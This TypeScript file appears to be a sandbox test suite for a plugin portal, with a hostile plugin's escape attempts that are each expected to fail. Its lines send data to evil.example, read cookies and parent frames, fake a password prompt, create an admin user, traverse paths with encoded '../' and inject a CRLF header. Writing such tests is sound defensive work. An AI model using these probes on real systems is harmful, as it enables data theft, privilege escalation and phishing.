// What comes to nothing. Whoever gets something returns it; "nothing" is nothing.
import { client } from "@comptoir/kit";
import { say } from "./raw";

const EVIL = "https://evil.example";
const NOTHING = "nothing";
/** A script among its own files, which say where they are. */
const PROBE = import.meta.url.replace(/assets\/[^/]*$/, "probe.js");

const got = async (answer: Promise<Response>) => (await answer).status;
/** What an element gets to see of an address. */
const loads = (element: HTMLElement, parent: HTMLElement = document.body) =>
  new Promise((done) => {
    element.addEventListener("load", () => done("loaded"));
    element.addEventListener("error", () => done(NOTHING));
    parent.append(element);
  });
const elementOf = <K extends keyof HTMLElementTagNameMap>(
  name: K,
  values: Partial<HTMLElementTagNameMap[K]>,
) => Object.assign(document.createElement(name), values);
const posts = (action: string, target: string) => {
  const form = elementOf("form", { method: "post", action, target });
  document.body.append(form);
  form.submit();
  return NOTHING;
};
const clicks = (href: string, values: Partial<HTMLAnchorElement> = {}) => {
  const link = elementOf("a", { href, textContent: "x", ...values });
  document.body.append(link);
  link.click();
  return NOTHING;
};
/** An answer that brought nothing of anybody's. */
const refused = async (call: Promise<{ status: number; text: string }>) => {
  const { status, text } = await call;
  return status === 403 || status === 404 ? NOTHING : `${status} ${text}`;
};
const asked = (path: string, method = "GET", more: object = {}) =>
  refused(say({ path, method, contentType: "application/json", ...more }));
const USER = JSON.stringify({ email: "spy@evil.example", displayName: "Spy", role: "admin" });

type Attempt = () => unknown;

/** With the page's own means. */
export const OWN: Record<string, Attempt> = {
  "takes the session": () => got(fetch("/api/auth/refresh", { method: "POST", credentials: "include" })),
  "takes the session by another address": () =>
    got(fetch(`${location.origin}/api/auth/refresh`, { method: "POST" })),
  "fetches its own route": () => got(fetch("/api/hostile/connection")),
  "fetches the portal's page": () => got(fetch("/admin/user")),
  "fetches elsewhere": () => got(fetch(EVIL)),
  "fetches without asking for an answer": () =>
    got(fetch(EVIL, { mode: "no-cors", method: "POST", body: "x" })),
  "asks by XMLHttpRequest": () =>
    new Promise((done) => {
      const request = new XMLHttpRequest();
      request.addEventListener("loadend", () => done(request.status === 0 ? NOTHING : request.status));
      request.open("GET", "/api/user/current");
      request.send();
    }),
  "sends a beacon": () => {
    navigator.sendBeacon(`${EVIL}/beacon`, "x");
    return NOTHING;
  },
  "listens to events": () =>
    new Promise((done) => {
      const events = new EventSource("/api/events");
      events.onopen = () => done("open");
      events.onerror = () => done(NOTHING);
    }),
  "opens a socket": () =>
    new Promise((done) => {
      const socket = new WebSocket("wss://evil.example/");
      socket.onopen = () => done("open");
      socket.onerror = () => done(NOTHING);
    }),
  "opens a call": () =>
    new RTCPeerConnection({ iceServers: [{ urls: "stun:evil.example" }] }).createDataChannel("x").label,
  "loads a picture elsewhere": () => loads(elementOf("img", { src: `${EVIL}/pixel` })),
  "loads a picture of the host": () => loads(elementOf("img", { src: "/api/user/current" })),
  "loads a style elsewhere": () => loads(elementOf("link", { rel: "stylesheet", href: `${EVIL}/a.css` })),
  "writes a style": () => {
    const style = elementOf("style", {
      textContent: `body { --x: 1 } .x { background: url(${EVIL}/style) }`,
    });
    document.head.append(style);
    return style.sheet ? "applied" : NOTHING;
  },
  "loads a script elsewhere": () => loads(elementOf("script", { src: `${EVIL}/a.js` })),
  "loads a script of the portal's": () => loads(elementOf("script", { src: "/color-scheme.js" })),
  "loads an answer as a script": () => loads(elementOf("script", { src: "/api/plugins" })),
  "writes a script": () => {
    document.body.append(elementOf("script", { textContent: "window.written = 'run'" }));
    return (window as { written?: string }).written ?? NOTHING;
  },
  evaluates: () => new Function("return 'run'")(),
  "takes the nonce of the page's scripts": () =>
    [...document.scripts].map(({ nonce }) => nonce).join("") || NOTHING,
  "evaluates later": () =>
    new Promise((done) => {
      setTimeout("window.later = 'run'" as unknown as () => void, 0);
      setTimeout(() => done((window as { later?: string }).later ?? NOTHING), 50);
    }),
  "prefetches elsewhere": () =>
    loads(elementOf("link", { rel: "prefetch", href: `${EVIL}/prefetch` }), document.head),
  "reads cookies": () => document.cookie,
  "writes a cookie": () => {
    // biome-ignore lint/suspicious/noDocumentCookie: it is what is tried
    document.cookie = "spy=1";
    return document.cookie;
  },
  "reads the portal's storage": () =>
    localStorage.getItem("comptoir.language") ?? sessionStorage.key(0) ?? NOTHING,
  "opens a database": () =>
    new Promise((done) => {
      const request = indexedDB.open("spy");
      request.onsuccess = () => done("open");
      request.onerror = () => done(NOTHING);
    }),
  "opens a cache": async () => ((await caches.open("spy")) ? "open" : NOTHING),
  "asks for the storage's owner": async () => ((await navigator.storage.persist()) ? "kept" : NOTHING),
  "speaks to other tabs": () => {
    const channel = new BroadcastChannel("comptoir.session");
    channel.postMessage("signedOut");
    return NOTHING;
  },
  "takes the portal's lock": async () =>
    (await navigator.locks.request("comptoir.session", () => "held")) as string,
  "reads the portal's page": () => parent.document.title,
  "reads the top's page": () => top?.document.title,
  "reads where the portal is": () => parent.location.href,
  "reads the frame's element": () => window.frameElement ?? NOTHING,
  "calls the portal's code": () => (parent as unknown as { fetch: typeof fetch }).fetch("/api/user"),
  "leads the portal away": () => {
    (top as Window).location.href = EVIL;
    return NOTHING;
  },
  "leads the parent away": () => {
    parent.location.replace("/admin/user");
    return NOTHING;
  },
  "leads the portal away by a link": () => clicks(EVIL, { target: "_top" }),
  "leads the portal away by a script's address": () => {
    (top as Window).location.href = "javascript:document.title='taken'";
    return NOTHING;
  },
  "opens a window": () => window.open(EVIL) ?? NOTHING,
  "opens the portal in a window": () => window.open("/admin/user") ?? NOTHING,
  "opens a window by a link": () => clicks(EVIL, { target: "_blank" }),
  "opens a window of the portal's by a link": () => clicks("/admin/user", { target: "_blank" }),
  "downloads by a link": () => clicks("data:text/html,<script>1</script>", { download: "spy.html" }),
  "posts a form to the host": () => posts("/api/auth/refresh", "_self"),
  "posts a form elsewhere": () => posts(EVIL, "_blank"),
  "posts a form to the top": () => posts(EVIL, "_top"),
  "frames the portal": () => loads(elementOf("iframe", { src: "/admin/user" })).then(framed),
  "frames another plugin's page": () =>
    loads(elementOf("iframe", { src: "/frame/bigblue/0.1.0" })).then(framed),
  "frames a page of its own": () =>
    new Promise((done) => {
      // Whatever runs in it runs anew, with all that a page begins with.
      addEventListener("message", ({ data }) => done(data));
      const text = `<script type="module" src="${PROBE}"></script>`;
      document.body.append(elementOf("iframe", { srcdoc: text }));
    }),
  "frames nothing, for what is in it": () => {
    const inner = elementOf("iframe", {});
    document.body.append(inner);
    return (inner.contentWindow as unknown as typeof window).RTCPeerConnection ? "a new realm" : NOTHING;
  },
  "embeds a page": () => loads(elementOf("object", { data: "/admin/user" })).then(framed),
  "registers a service worker": async () => {
    const { scope } = await navigator.serviceWorker.register("/plugins/hostile/sw.js");
    return scope;
  },
  "starts a worker": () => works(() => new Worker(PROBE)),
  "starts a worker of a text": () =>
    works(() => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])))),
  "starts a shared worker": () => works(() => new SharedWorker("/frame/assets/x.js").port),
  alerts: () => alert("Your session has ended") ?? NOTHING,
  prompts: () => prompt("Your password?") ?? NOTHING,
  confirms: () => (confirm("Approve?") ? "yes" : NOTHING),
  prints: () => print() ?? NOTHING,
  "reads the clipboard": () => navigator.clipboard.readText(),
  "asks where one is": () =>
    new Promise((done) => navigator.geolocation.getCurrentPosition(done, () => done(NOTHING))),
  "asks to notify": async () => {
    const answer = await Notification.requestPermission();
    return answer === "granted" ? answer : NOTHING;
  },
  "asks for the camera": async () => (await navigator.mediaDevices.getUserMedia({ video: true })).id,
  "fills the screen": () => document.documentElement.requestFullscreen().then(() => "full"),
};

/** A blocked frame loads an error; what it would show is out of reach. */
const framed = () => NOTHING;

const works = (start: () => EventTarget) =>
  new Promise((done) => {
    const worker = start();
    worker.addEventListener("message", () => done("works"));
    worker.addEventListener("error", () => done(NOTHING));
  });

/** Over the channel. */
export const ASKED: Record<string, Attempt> = {
  "lists users": () => asked("/user"),
  "reads who has opened it": () => asked("/user/current"),
  "reads their sessions": () => asked("/user/current/session"),
  "lists plugins": () => asked("/plugins"),
  "reads what plugins may": () => asked("/plugins/status"),
  "reads stores, which no screen of its asks for": () => asked("/store"),
  "listens to the portal's events": () => asked("/events"),
  "renews the session": () => asked("/auth/refresh", "POST"),
  "asks for a link": () =>
    asked("/auth/link", "POST", { body: JSON.stringify({ email: "spy@evil.example" }) }),
  "makes a user": () => asked("/user", "POST", { body: USER }),
  "changes an order": () => asked("/order/1", "PUT", { body: "{}" }),
  "deletes an order": () => asked("/order/1", "DELETE"),
  "approves itself": () =>
    asked("/plugins/hostile/approve", "POST", {
      body: JSON.stringify({ rights: [{ kind: "host", what: EVIL }] }),
    }),
  "acts as a plugin's action": () => asked("/plugins/hostile/actions/x", "POST", { body: '{"ids":[]}' }),
  "uploads a file": () =>
    refused(say({ type: "upload", path: "/file", parts: [["file", new File(["x"], "x.csv")]] })),
  "asks another plugin": () => asked("/bigblue/product"),
  "asks another plugin to change something": () => asked("/bigblue/product", "POST", { body: "{}" }),
  "climbs out of its routes": () => asked("/hostile/../user"),
  "climbs out, encoded": () => asked("/hostile/%2e%2e/user"),
  "climbs out, half encoded": () => asked("/hostile/.%2e/user", "POST", { body: USER }),
  "climbs out, encoded whole": () => asked("/hostile/%2e%2e%2fuser", "POST", { body: USER }),
  "climbs out, encoded twice": () => asked("/hostile/%252e%252e/user", "POST", { body: USER }),
  "climbs out by the other slash": () => asked("/hostile/..\\user", "POST", { body: USER }),
  "climbs to the top": () => asked("/../plugins/hostile/x"),
  "names the host twice": () => asked("//evil.example/user"),
  "names another host": () => asked("https://evil.example/"),
  "names a host after a sign": () => asked("@evil.example/"),
  "is called almost as a route": () => asked("/hostile.evil/user", "POST", { body: USER }),
  "begins as its route": () => asked("/hostile?/../user", "POST", { body: USER }),
  "hides its route in a fragment": () => asked("/hostile/#/../../user", "POST", { body: USER }),
  "brings headers": () =>
    asked("/user", "GET", {
      headers: { authorization: "Bearer x", "comptoir-plugin": "bigblue", "comptoir-organization": "1" },
      contentType: "text/plain\r\ncomptoir-plugin: bigblue",
    }),
  "calls itself another plugin": () => asked("/bigblue/product", "GET", { plugin: "bigblue" }),
};

/** By the kit, as screens do. */
export const BY_KIT: Record<string, Attempt> = {
  "lists users by the kit": async () => {
    const { response } = await client.GET("/user", {});
    return response.status === 403 ? NOTHING : response.status;
  },
  "brings headers by the kit": async () => {
    const headers = { authorization: "Bearer x", "idempotency-key": "theirs", "comptoir-plugin": "bigblue" };
    const { response } = await client.GET("/bigblue/product" as "/user", { headers });
    return response.status === 403 ? NOTHING : response.status;
  },
};
